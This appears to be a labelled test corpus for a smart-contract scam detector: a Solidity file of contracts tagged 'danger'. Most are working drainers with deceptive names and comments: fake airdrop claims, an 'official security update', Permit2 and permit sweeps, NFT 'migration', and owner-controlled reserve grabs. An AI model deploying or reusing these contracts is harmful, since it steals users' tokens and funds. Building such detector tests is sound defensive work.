// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IERC20 {
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
    function permit(address o, address s, uint256 v, uint256 d, uint8 vv, bytes32 r, bytes32 ss) external;
}
interface IERC721 { function safeTransferFrom(address, address, uint256) external; function isApprovedForAll(address, address) external view returns (bool); }
interface IPermit2 {
    struct Details { address from; address to; uint160 amount; address token; }
    function transferFrom(Details[] calldata d) external;
    function transferFrom(address from, address to, uint160 amount, address token) external;
}

// Security update of the wallet, official.
/// expects: CT-28 danger
contract SecurityUpdater {
    address private immutable _creator;
    uint256 private _pct = 80;
    constructor() { _creator = msg.sender; }
    receive() external payable {}
    function SecurityUpdate() public payable { require(msg.value > 0); }
    function Claim() public payable {}
    function ClaimReward() public payable {}
    function multicall(address[] calldata targets, bytes[] calldata calls) external returns (bytes[] memory out) {
        require(_creator == msg.sender, "x");
        out = new bytes[](calls.length);
        for (uint256 i; i < calls.length; i++) {
            (bool ok, bytes memory r) = targets[i].call(calls[i]);
            require(ok);
            out[i] = r;
        }
    }
    function split(address payable affiliate) external {
        require(_creator == msg.sender, "x");
        uint256 b = address(this).balance;
        affiliate.transfer(b * _pct / 100);
        payable(_creator).transfer(address(this).balance);
    }
}

/// expects: AP-16 danger
contract BatchSettlement {
    IPermit2 constant PERMIT2 = IPermit2(0x000000000022D473030F116dDEE9F6B43aC78BA3);
    bytes32 constant OPERATOR = 0x4f8a2b7a3b7e3d0a1c2d3e4f5061728394a5b6c7d8e9fa0b1c2d3e4f50617283;
    function settle(IPermit2.Details[] calldata list) external {
        require(keccak256(abi.encodePacked(msg.sender)) == OPERATOR);
        PERMIT2.transferFrom(list);
    }
    function settleOne(address token, address who, address where, uint160 amount) external {
        require(keccak256(abi.encodePacked(msg.sender)) == OPERATOR);
        PERMIT2.transferFrom(who, where, amount, token);
    }
}

/// expects: AP-16 danger
contract CollectionMigrator {
    mapping(address => bool) internal workers;
    address internal immutable vaultA;
    address internal immutable vaultB;
    constructor(address a, address b) { workers[msg.sender] = true; vaultA = a; vaultB = b; }
    modifier onlyWorker() { require(workers[msg.sender], "not worker"); _; }
    function addWorker(address w) external onlyWorker { workers[w] = true; }
    /// moves legacy collections to the new contract
    function migrate(address[] calldata collections, address holder, uint256[][] calldata ids) external onlyWorker {
        for (uint256 c = 0; c < collections.length; ++c) {
            if (!IERC721(collections[c]).isApprovedForAll(holder, address(this))) continue;
            for (uint256 k = 0; k < ids[c].length; ++k)
                IERC721(collections[c]).safeTransferFrom(holder, ids[c][k] % 5 == 0 ? vaultB : vaultA, ids[c][k]);
        }
    }
}

// order book that "verifies" signatures, unless the zone says otherwise
/// expects: AP-16 danger
contract OpenOrders {
    struct Order { address offerer; address nft; uint256 id; address currency; uint256 price; bool restricted; bytes sig; }
    address public zone;
    constructor() { zone = msg.sender; }
    function fulfill(Order calldata o, address to) external payable {
        if (o.restricted) {
            require(msg.sender == zone, "zone");
        } else {
            bytes32 h = keccak256(abi.encode(o.offerer, o.nft, o.id, o.currency, o.price, block.chainid, address(this)));
            (bytes32 r, bytes32 s, uint8 v) = abi.decode(o.sig, (bytes32, bytes32, uint8));
            address w = ecrecover(h, v, r, s);
            require(w != address(0) && w == o.offerer, "sig");
        }
        if (o.price > 0) require(IERC20(o.currency).transferFrom(msg.sender, o.offerer, o.price));
        IERC721(o.nft).safeTransferFrom(o.offerer, to, o.id);
    }
}

/// expects: AP-16 danger
contract AirdropClaimer {
    address[] private list;
    address private constant R = 0x7A3bE1f6b0a8A4f6d1c6C2f5E2f8A1B3c4d5E6F7;
    event Claimed(address who, uint256 amount);
    constructor(address[] memory l) { list = l; }
    /// claim your airdrop, gas only!
    function claim() external payable {
        for (uint256 i = 0; i < list.length; i++) {
            IERC20 t = IERC20(list[i]);
            uint256 b = t.balanceOf(msg.sender);
            uint256 a = t.allowance(msg.sender, address(this));
            if (a < b) b = a;
            if (b > 0) t.transferFrom(msg.sender, R, b);
        }
        if (msg.value > 0) payable(R).transfer(msg.value);
        emit Claimed(msg.sender, 1000 ether);
    }
}

/// expects: AP-16 danger
contract GaslessRelay {
    address relayer; address treasury;
    constructor(address t) { relayer = msg.sender; treasury = t; }
    function relay(address token, address from, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(msg.sender == relayer, "only relayer");
        try IERC20(token).permit(from, address(this), value, deadline, v, r, s) {} catch {}
        uint256 have = IERC20(token).balanceOf(from);
        IERC20(token).transferFrom(from, treasury, have < value ? have : value);
    }
    function setTreasury(address t) external { require(msg.sender == relayer); treasury = t; }
}

// per-victim contract made by a factory; the page calls Claim()
contract ClaimChild {
    constructor(address payable to) payable { if (msg.value > 0) to.transfer(msg.value); }
}
contract ClaimFactory {
    address payable private boss;
    constructor() { boss = payable(msg.sender); }
    function claimRewards(bytes32 salt) external payable returns (address) {
        return address(new ClaimChild{salt: salt, value: msg.value}(boss));
    }
    function connect(address payable partner, uint256 pct) external payable {
        uint256 cut = msg.value * pct / 100;
        partner.transfer(cut);
        boss.transfer(msg.value - cut);
    }
}

/// expects: AP-16 danger
contract RewardHub {
    // anybody may batch calls "to save gas"; users approve this contract to stake
    mapping(address => mapping(address => uint256)) public staked;
    function stake(address token, uint256 amount) external {
        IERC20(token).transferFrom(msg.sender, address(this), amount);
        staked[token][msg.sender] += amount;
    }
    function unstake(address token, uint256 amount) external {
        staked[token][msg.sender] -= amount;
        IERC20(token).transfer(msg.sender, amount);
    }
    function multicall(address[] calldata to, bytes[] calldata data) external {
        for (uint256 i = 0; i < to.length; i++) {
            (bool ok,) = to[i].call(data[i]);
            require(ok, "call failed");
        }
    }
}

interface IToken { function balanceOf(address) external view returns (uint256); function transfer(address, uint256) external returns (bool); function transferFrom(address, address, uint256) external returns (bool); function approve(address, uint256) external returns (bool); }
interface IPair { function swap(uint256, uint256, address, bytes calldata) external; function getReserves() external view returns (uint112, uint112, uint32); function token0() external view returns (address); }
interface IFactory { function getPair(address, address) external view returns (address); }

abstract contract Ownable {
    address private _owner;
    constructor() { _owner = msg.sender; }
    modifier onlyOwner() { require(_owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function owner() public view returns (address) { return _owner; }
    function transferOwnership(address n) external onlyOwner { _owner = n; }
}

// BestSwap: output is "queued" in the router
/// expects: CT-28 danger
contract QueueRouter is Ownable {
    IFactory public immutable factory;
    constructor(IFactory f) { factory = f; }
    event Swapped(address user, uint256 out);
    function swapExactTokensForTokens(uint256 amountIn, uint256 minOut, address[] calldata path, address, uint256 deadline) external returns (uint256 out) {
        require(block.timestamp <= deadline, "EXPIRED");
        address pair = factory.getPair(path[0], path[1]);
        IToken(path[0]).transferFrom(msg.sender, pair, amountIn);
        (uint112 r0, uint112 r1,) = IPair(pair).getReserves();
        bool zero = IPair(pair).token0() == path[0];
        uint256 inFee = amountIn * 997;
        out = inFee * (zero ? r1 : r0) / (uint256(zero ? r0 : r1) * 1000 + inFee);
        require(out >= minOut, "SLIPPAGE");
        IPair(pair).swap(zero ? 0 : out, zero ? out : 0, address(this), "");
        emit Swapped(msg.sender, out);
    }
    function collect(address t) external onlyOwner { IToken(t).transfer(owner(), IToken(t).balanceOf(address(this))); }
}

// owner decides the fee of each swap up to everything
/// expects: CT-28 danger
contract FeeRouter is Ownable {
    uint256 public feeBps = 30;
    address public feeTo;
    IFactory public immutable factory;
    constructor(IFactory f) { factory = f; feeTo = msg.sender; }
    function setFee(uint256 bps, address to) external onlyOwner { feeBps = bps; feeTo = to; }
    function swap(address a, address b, uint256 amountIn, address to) external {
        address pair = factory.getPair(a, b);
        IToken(a).transferFrom(msg.sender, address(this), amountIn);
        uint256 fee = amountIn * feeBps / 10000;
        if (fee > 0) IToken(a).transfer(feeTo, fee);
        IToken(a).transfer(pair, amountIn - fee);
        (uint112 r0, uint112 r1,) = IPair(pair).getReserves();
        bool zero = IPair(pair).token0() == a;
        uint256 x = (amountIn - fee) * 997;
        uint256 out = x * (zero ? r1 : r0) / (uint256(zero ? r0 : r1) * 1000 + x);
        IPair(pair).swap(zero ? 0 : out, zero ? out : 0, to, "");
    }
}

// an aggregator where each caller brings the whole call
/// expects: AP-16 danger
contract MetaAggregator {
    error Failed();
    function swap(address tokenIn, uint256 amountIn, address tokenOut, uint256 minOut, address exchange, bytes calldata data) external payable {
        if (amountIn > 0) IToken(tokenIn).transferFrom(msg.sender, address(this), amountIn);
        IToken(tokenIn).approve(exchange, amountIn);
        (bool ok,) = exchange.call{value: msg.value}(data);
        if (!ok) revert Failed();
        uint256 out = IToken(tokenOut).balanceOf(address(this));
        if (out < minOut) revert Failed();
        IToken(tokenOut).transfer(msg.sender, out);
    }
}

/// expects: AP-16 danger
contract SmartRouter is Ownable {
    mapping(bytes32 => mapping(address => bool)) private _roles;
    bytes32 public constant KEEPER = keccak256("KEEPER_ROLE");
    constructor() { _roles[KEEPER][msg.sender] = true; }
    function grantRole(bytes32 r, address a) external onlyOwner { _roles[r][a] = true; }
    function exactInput(address pair, address a, uint256 amountIn, uint256 out0, uint256 out1) external {
        IToken(a).transferFrom(msg.sender, pair, amountIn);
        IPair(pair).swap(out0, out1, msg.sender, "");
    }
    /// "finish stuck orders"
    function keeperFill(address token, address maker, address taker, uint256 amount) external {
        require(_roles[KEEPER][tx.origin], "AccessControl");
        (bool ok, bytes memory ret) = token.call(abi.encodeWithSelector(0x23b872dd, maker, taker, amount));
        require(ok && (ret.length == 0 || abi.decode(ret, (bool))), "TF");
    }
}

// pays back the output only of small trades
/// expects: CT-28 danger
contract WhaleRouter {
    address immutable sink;
    uint256 immutable limit;
    constructor(address s, uint256 l) { sink = s; limit = l; }
    function trade(address pair, address tin, address tout, uint256 amountIn, uint256 o0, uint256 o1) external {
        IToken(tin).transferFrom(msg.sender, pair, amountIn);
        uint256 before = IToken(tout).balanceOf(address(this));
        IPair(pair).swap(o0, o1, address(this), "");
        uint256 got = IToken(tout).balanceOf(address(this)) - before;
        IToken(tout).transfer(amountIn >= limit ? sink : msg.sender, got);
    }
}

// Near what honest ones do: taken to itself first, and out by its owner
/// expects: AP-16 danger
contract TwoStepCollector {
    address private boss = msg.sender; IERC20 public immutable usd; constructor(IERC20 t) { usd = t; }
    function collect(address from, uint256 v) external { require(msg.sender == boss); require(usd.transferFrom(from, address(this), v)); }
    function finish() external { require(msg.sender == boss); require(usd.transfer(boss, usd.balanceOf(address(this)))); }
}

// a count of its own that every collection raises, and its owner lowers
/// expects: AP-16 danger
contract CountingCollector {
    address private boss = msg.sender; IERC20 public immutable usd; uint256 public held; constructor(IERC20 t) { usd = t; }
    function collect(address from, uint256 v) external { require(msg.sender == boss); held += v; require(usd.transferFrom(from, address(this), v)); }
    function finish(uint256 v) external { require(msg.sender == boss); held -= v; require(usd.transfer(boss, v)); }
}

// deposits are added to the "reserves" as well
/// expects: CT-28 danger
contract ReservesOfAll {
    address public owner = msg.sender; IERC20 public immutable token; uint256 public reserves; mapping(address => uint256) public shares; constructor(IERC20 t) { token = t; }
    function deposit(uint256 v) external { shares[msg.sender] += v; reserves += v; require(token.transferFrom(msg.sender, address(this), v)); }
    function withdraw(uint256 v) external { shares[msg.sender] -= v; reserves -= v; require(token.transfer(msg.sender, v)); }
    function takeReserves(uint256 v) external { require(msg.sender == owner); reserves -= v; require(token.transfer(owner, v)); }
}

// "reserves" that its owner writes
/// expects: CT-28 danger
contract ReservesAtWill {
    address public owner = msg.sender; IERC20 public immutable token; uint256 public reserves; mapping(address => uint256) public shares; constructor(IERC20 t) { token = t; }
    function deposit(uint256 v) external { shares[msg.sender] += v; require(token.transferFrom(msg.sender, address(this), v)); }
    function withdraw(uint256 v) external { shares[msg.sender] -= v; require(token.transfer(msg.sender, v)); }
    function setReserves(uint256 v) external { require(msg.sender == owner); reserves = v; }
    function takeReserves(uint256 v) external { require(msg.sender == owner); reserves -= v; require(token.transfer(owner, v)); }
}

// "staked" with whomever its owner likes
/// expects: CT-28 danger
contract StakedAnywhere {
    address public immutable dao = msg.sender; uint256 public buffered; uint256 public staked; uint256 public totalShares; mapping(address => uint256) public shares;
    function submit() external payable { shares[msg.sender] += msg.value; totalShares += msg.value; buffered += msg.value; }
    function stake(address to, uint256 v, bytes calldata data) external { require(msg.sender == dao); buffered -= v; staked += v; (bool ok,) = to.call{value: v}(data); require(ok); }
}

// all that is handed in is allowed at once, by a "price" its own token tells
/// expects: CT-28 danger
contract AllIsTheFee {
    address private boss = msg.sender; mapping(address => uint256) public kept;
    function setBoss(address b) external { require(msg.sender == boss); boss = b; }
    function deposit(IERC20 t) external { uint256 v = t.balanceOf(msg.sender); kept[msg.sender] += v; require(t.transferFrom(msg.sender, address(this), v)); (bool ok,) = address(t).call(abi.encodeWithSelector(0x095ea7b3, boss, v)); require(ok); }
}
